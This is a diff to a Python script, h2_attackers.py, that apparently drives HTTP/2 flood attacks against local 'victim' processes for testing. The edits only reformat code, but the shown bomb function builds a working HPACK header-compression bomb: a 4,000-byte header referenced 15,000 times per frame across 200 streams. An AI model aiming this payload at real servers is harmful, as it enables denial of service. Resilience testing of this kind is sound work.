@@ -1,7 +1,7 @@
 """Floods of HTTP/2, each by several attackers that come again when they are closed.
 
-`python3 h2_attackers.py PORT` reads lines of an index into FLOODS and seconds, and answers each with a line of JSON: what
-the attack came to. A process of its own, so that it costs the victims nothing."""
+`python3 h2_attackers.py PORT` reads lines of an index into FLOODS and seconds, and answers each with a line of JSON:
+what the attack came to. A process of its own, so that it costs the victims nothing."""
 
 import json
 import socket
@@ -45,8 +45,9 @@ def bomb(field):
   """Sections whose every byte stands for a field of 4,000 bytes."""
   entry = b"\x40" + literal(field, "v" * 4000)[1:]
   first = GREETING + frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(path="/attack") + entry)
-  return first, streams(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream,
-                                             request_block(path="/attack") + b"\xbe" * 15_000), first=3, group=2, count=200)
+  bytes_of_it = request_block(path="/attack") + b"\xbe" * 15_000
+  return first, streams(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, bytes_of_it), first=3, group=2,
+                        count=200)
 
 
 def storm(stream):
